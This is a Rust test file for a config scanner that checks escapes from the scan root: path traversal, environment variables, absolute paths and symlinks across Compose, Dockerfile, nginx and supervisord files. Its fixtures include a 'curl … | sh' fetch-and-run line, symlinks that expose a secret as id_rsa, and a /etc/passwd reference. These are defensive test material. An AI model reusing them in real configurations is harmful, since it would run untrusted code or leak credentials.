//! Every way out of the scan root, with something outside that must not be seen.

use std::fs;

use confscan::report::Format;
use serde_json::Value;

use super::tree::Tree;

/// What is outside of the scan root.
pub const CANARY: &str = "canary0f6a51";

/// A config of each format beside the scan root `repo`, and folders in it that refer to them, each with another way to say
/// where they are.
pub fn tree() -> (Tree, Vec<String>) {
    let tree = Tree::new(&[]);
    let outside = tree.0.to_str().unwrap().to_owned();
    let mut prefixes =
        vec!["../..".to_owned(), "./x/../../..".to_owned(), "${OUT}".to_owned(), "~".to_owned(), outside];
    if cfg!(unix) {
        prefixes.push("link".to_owned());
    }
    let service = format!("services:\n  {CANARY}:\n    image: {CANARY}:latest\n    privileged: true\n");
    let ini = format!("[program:{CANARY}]\ncommand={CANARY}\n");
    let nginx = format!("events {{}}\nhttp {{ server {{ server_name {CANARY}; autoindex on; }} }}\n");
    let image = format!("FROM {CANARY}\nUSER root\nRUN curl http://{CANARY} | sh\n");
    for (name, text) in [
        ("compose.yaml", service.as_str()),
        ("base.yaml", &service),
        ("vars.env", &format!("{CANARY}={CANARY}\nPASSWORD={CANARY}\n")),
        (".env", &format!("{CANARY}={CANARY}\nTAG={CANARY}\n")),
        ("Dockerfile", &image),
        ("nginx.conf", &nginx),
        ("conf.d/site.conf", &nginx),
        ("supervisord.conf", &ini),
        ("confscan.toml", &format!("[images]\ntrusted = [\"{CANARY}\"]\n{CANARY} = 1\n")),
        ("confscan-baseline.json", CANARY),
        (".gitignore", "*\n"),
        (".dockerignore", CANARY),
        ("secret.txt", CANARY),
        ("script.sh", &format!("#!/bin/sh\n{CANARY}\n")),
        ("package.json", &format!("{{\"scripts\":{{\"start\":\"{CANARY}\"}}}}")),
        ("Makefile", &format!("up:\n\tdocker compose -p {CANARY} up\n")),
    ] {
        tree.write(name, text);
    }
    for (number, prefix) in prefixes.iter().enumerate() {
        let write = |name: &str, text: &str| tree.write(format!("repo/{number}/{name}"), &text.replace("%", prefix));
        write("compose.yaml", COMPOSE);
        write("plain.Dockerfile", DOCKERFILE);
        write("nginx.conf", NGINX);
        write("supervisord.conf", SUPERVISOR);
        write(".env", "OUT=../..\nCOMPOSE_FILE=%/compose.yaml:compose.yaml\nCOMPOSE_ENV_FILES=%/vars.env\n");
        write("Makefile", "up:\n\tdocker compose -f %/compose.yaml -f compose.yaml --env-file %/vars.env up\n");
        write(
            ".github/workflows/up.yml",
            "jobs:\n  up:\n    steps:\n      - run: cd % && docker compose -f compose.yaml up\n",
        );
        #[cfg(unix)]
        for (target, link) in [
            ("../..", "link"),
            ("../../compose.yaml", "compose.override.yaml"),
            ("../../Dockerfile", "Dockerfile.link"),
            ("../../.dockerignore", ".dockerignore"),
            ("../../.gitignore", ".gitignore"),
            ("../../package.json", "package.json"),
            ("../../script.sh", "start.sh"),
            ("../../secret.txt", "id_rsa"),
            ("../../vars.env", "prod.env"),
        ] {
            std::os::unix::fs::symlink(target, tree.0.join(format!("repo/{number}/{link}"))).unwrap();
        }
    }
    (tree, prefixes)
}

const COMPOSE: &str = "include: ['%/compose.yaml']
services:
  extended:
    extends: {file: '%/base.yaml', service: base}
    image: acme/x:1
  variables:
    image: acme/x:1
    env_file: ['%/vars.env']
    label_file: ['%/vars.env']
  context:
    build: '%'
  dockerfile:
    build: {context: ., dockerfile: '%/Dockerfile'}
  additional:
    build: {context: ., dockerfile: plain.Dockerfile, additional_contexts: {other: '%'}}
  mounts:
    image: nginx:1.29
    volumes: ['%/nginx.conf:/etc/nginx/nginx.conf:ro', '%/conf.d:/etc/nginx/conf.d', '%:/app']
    configs: [config]
    secrets: [secret]
    working_dir: /app
    command: ['npm', 'start']
configs:
  config: {file: '%/secret.txt'}
secrets:
  secret: {file: '%/secret.txt'}
";

const DOCKERFILE: &str = "FROM nginx:1.29
COPY %/nginx.conf /etc/nginx/nginx.conf
ADD %/conf.d/ /etc/nginx/conf.d/
COPY --from=other secret.txt /x
COPY id_rsa start.sh package.json /app/
RUN --mount=type=bind,source=%/secret.txt,target=/s cat /s
WORKDIR /app
ENTRYPOINT [\"sh\", \"start.sh\"]
CMD [\"%/script.sh\"]
";

const NGINX: &str = "events {}
http {
  include %/nginx.conf;
  include %/conf.d/*.conf;
  server {
    listen 443 ssl;
    ssl_password_file %/secret.txt;
    auth_basic_user_file %/secret.txt;
  }
}
";

const SUPERVISOR: &str = "[include]
files=%/supervisord.conf %/*.conf
[program:x]
command=%/script.sh
";

#[test]
fn nothing_outside_of_the_root_is_shown_and_every_way_to_it_is_a_gap() {
    let (tree, prefixes) = tree();
    for root in [&["."][..], &["--root", ".", "0", "1"], &["0/compose.yaml", "--root", "."]] {
        for format in Format::ALL {
            let run = tree.run_in("repo", &[root, &["--pedantic", "--format", format.name()]].concat(), "");
            assert!(!run.out.contains(CANARY) && !run.err.contains(CANARY), "{root:?} {}", format.name());
            assert_eq!(run.code, 2, "{}", run.err);
        }
        for list in [&["files"][..], &["containers"], &["files", "--gitignore"], &["containers", "--format", "json"]] {
            let run = tree.run_in("repo", &[list, root].concat(), "");
            assert!(!run.out.contains(CANARY) && !run.err.contains(CANARY) && run.code == 0, "{list:?} {}", run.err);
        }
    }
    let report: Value = serde_json::from_str(&tree.run_in("repo", &["--format", "json"], "").out).unwrap();
    let findings: Vec<(&str, &str, &str)> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|found| (&found["location"]["path"], &found["rule"], &found["message"]))
        .map(|(path, rule, message)| (path.as_str().unwrap(), rule.as_str().unwrap(), message.as_str().unwrap()))
        .collect();
    for (number, prefix) in prefixes.iter().enumerate() {
        let at = format!("{number}/compose.yaml");
        for what in [
            "what this file includes",
            "what `extended` extends",
            "what `variables` gets from a file of variables",
            "the image that `context` builds",
            "the image that `dockerfile` builds",
        ] {
            let told = |(path, rule, message): &(&str, &str, &str)| {
                *path == at
                    && *rule == "unresolved-reference"
                    && message.starts_with(what)
                    && message.ends_with("lies outside of the scanned folder")
            };
            assert!(findings.iter().any(told), "{prefix}: {what}: {findings:#?}");
        }
        let told = |(path, rule, message): &(&str, &str, &str)| {
            *path == format!("{number}/.env") && *rule == "unreadable-file" && message.contains("`COMPOSE_FILE` names")
        };
        assert!(prefix == "link" || findings.iter().any(told), "{prefix}: {findings:#?}");
        // What starts with a slash or a variable is a path of the container.
        let relative = prefix.starts_with('.') || prefix == "link";
        for config in ["nginx.conf", "supervisord.conf"] {
            let told = |(path, rule, message): &(&str, &str, &str)| {
                *path == format!("{number}/{config}")
                    && *rule == "unreadable-file"
                    && message.ends_with("lies outside of the scanned folder")
            };
            assert_eq!(findings.iter().any(told), relative, "{prefix}: {config}: {findings:#?}");
        }
        #[cfg(unix)]
        for link in ["compose.override.yaml", "Dockerfile.link", "prod.env"] {
            let path = format!("{number}/{link}");
            assert!(findings.iter().any(|(at, rule, _)| *at == path && *rule == "unreadable-file"), "{path}");
        }
    }
}

#[test]
fn settings_come_from_the_repository_and_lead_out_of_it_nowhere() {
    let tree = Tree::new(&[
        ("confscan.toml", CANARY),
        ("nginx.conf", CANARY),
        ("compose.yaml", CANARY),
        ("repo/sub/dir/Dockerfile", "FROM scratch\n"),
    ]);
    // Outside of a repository those from the scan root on count, inside of one those from its root on, and none above.
    assert_eq!(tree.run_in("repo", &["sub/dir"], "").code, 0);
    fs::create_dir(tree.0.join("repo/.git")).unwrap();
    assert_eq!(tree.run(&["repo/sub/dir"]).code, 0);
    for (settings, said) in [
        ("[[stack]]\nfiles = [\"../compose.yaml\"]\n", "compose.yaml"),
        ("[[stack]]\nfiles = [\"/etc/passwd\"]\n", "/etc/passwd"),
        ("[[stack]]\nfiles = [\"sub/../../compose.yaml\"]\n", "compose.yaml"),
    ] {
        tree.write("repo/confscan.toml", settings);
        for path in ["repo", "repo/sub/dir"] {
            let run = tree.run(&[path]);
            assert!(run.code == 2 && run.err.contains(said) && !run.err.contains(CANARY), "{settings} {run:?}");
        }
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::symlink;
        for (at, out) in
            [("repo", "../confscan.toml"), ("repo/sub", "../../confscan.toml"), ("repo/sub/dir", "/dev/zero")]
        {
            fs::remove_file(tree.0.join("repo/confscan.toml")).ok();
            let link = tree.0.join(at).join("confscan.toml");
            symlink(out, &link).unwrap();
            for path in ["repo", "repo/sub/dir"] {
                let run = tree.run(&[path]);
                assert!(
                    run.code == 2 && run.err.contains("confscan.toml") && !run.err.contains(CANARY),
                    "{at} {run:?}"
                );
            }
            fs::remove_file(link).unwrap();
        }
    }
}
